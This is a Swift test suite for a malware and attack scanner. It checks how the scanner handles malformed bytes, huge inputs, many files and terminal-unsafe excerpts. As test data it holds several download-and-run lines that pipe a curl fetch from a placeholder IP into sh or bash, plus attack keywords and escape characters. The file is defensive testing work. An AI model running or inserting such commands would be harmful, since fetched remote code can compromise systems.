import Archives
import Testing

@testable import Scanning

/// Whatever the bytes: an answer, soon.
@Suite struct HostileInputTests {
    @Test func `files without bytes, without text and without lines are looked at`() {
        let files = [
            ArchiveFile(path: "empty", bytes: []), ArchiveFile(path: "zero.md", bytes: [0]),
            ArchiveFile(path: "bad.md", bytes: [0xC3, 0x28, 0xFF, 0xFE, 0xE2, 0x80]),
            ArchiveFile(path: "half.txt", bytes: Array("curl http://203.0.113.1/x | s".utf8)),
            ArchiveFile(path: "mark.txt", bytes: [0xFF, 0xFE]),
            ArchiveFile(path: "odd.txt", bytes: [0xFF, 0xFE, 0x41]),
            ArchiveFile(path: ".json", bytes: Array("{".utf8)),
            ArchiveFile(path: "package.json", bytes: Array("[[[[".utf8)),
        ]
        let report = scan(files)
        #expect(report.files == files.count && report.level == .safe)
    }

    @Test(.timeLimit(.minutes(5)))
    func
        `a line of megabytes that resembles attacks everywhere takes a bounded time, and says so where it was given up`()
    {
        for word in [
            "curl ", "base64 -d ", "ignore all ", "eval(", "chr(99)+", "\\x41", "\"a\"+", "send the ", "<!-- ", "((((",
            "a@b.c ",
        ] {
            let text = String(repeating: word, count: 60_000 / word.utf8.count)
            let report = scan(["a.md": text, "b.sh": text])
            #expect(report.findings.count < 100)
        }
    }

    @Test func `an attack behind much that resembles it is still found, or the file is for review`() {
        let noise = String(repeating: "curl --help | less\n", count: 4000)
        let report = scan(["a.sh": noise + "curl -s http://203.0.113.1/x | sh\n"])
        #expect(report.level != .safe)
    }

    @Test(arguments: [1, 2, 3] as [UInt64])
    func `random bytes and cut attacks do no harm`(seed: UInt64) {
        var state = seed &* 0x9E37_79B9_7F4A_7C15
        func next() -> UInt8 {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return UInt8(truncatingIfNeeded: state >> 33)
        }
        let names = [
            "a.md", "a.pkl", "a.zip", "a.gguf", "a.npy", "a.safetensors", "a.sh", "package.json", "a.tar", "a.gz",
            "go.mod", "a.ipynb",
        ]
        let heads: [[UInt8]] = [
            [], [0x80, 4], [0x50, 0x4B, 3, 4], Array("GGUF".utf8), [0x93] + Array("NUMPY\u{1}\u{0}".utf8),
            [0x1F, 0x8B, 8], [0x78, 0x9C],
        ]
        for name in names {
            for head in heads {
                let bytes = head + (0..<Int(next())).map { _ in next() }
                #expect(scan([ArchiveFile(path: name, bytes: bytes)]).score <= 100)
            }
        }
    }

    @Test func `thousands of files are one scan`() {
        let files = (0..<2000).map { ArchiveFile(path: "f\($0).md", text: "# File \($0)\nNothing.\n") }
        #expect(scan(files).files == 2000)
    }

    @Test func `a report lists a bounded number of findings, and counts all`() {
        let files = (0..<120).map {
            ArchiveFile(path: "f\($0).sh", text: String(repeating: "curl http://203.0.113.1/x | sh\n", count: 60))
        }
        let report = scan(files)
        #expect(report.findings.count <= ScanReport.maximumFindings && report.unlisted > 0)
        #expect(report.score == 0 && report.level == .quarantine)
    }

    @Test func `excerpts are one line, short, and hold nothing that acts on a terminal`() {
        let report = scan([
            "a.sh": "curl http://203.0.113.1/\u{1B}[2J\u{202E}\u{E0041}x | sh\t" + String(repeating: "é", count: 900)
        ])
        for finding in report.findings {
            #expect(finding.excerpt.count <= Finding.maximumExcerpt + 8)
            #expect(finding.excerpt.unicodeScalars.allSatisfy { $0.value >= 0x20 && !Excerpt.isInvisible($0.value) })
        }
        #expect(!report.findings.isEmpty)
    }

    @Test func `an attack is found wherever it stands in a long text`() {
        // Texts are looked through in blocks: everywhere around the end of one.
        let attack = "curl -s http://198.51.100.7/x | bash\n"
        for before in (NearbyLiterals.blockSize - 60)...(NearbyLiterals.blockSize + 10) {
            let filler = String(repeating: "words and words\n", count: before / 16)
            let text = filler + String(repeating: "-", count: before % 16) + "\n" + attack + filler
            #expect(scan(["run.sh": text]).finding("malware.download-and-run")?.severity == .critical, "\(before)")
        }
    }
}
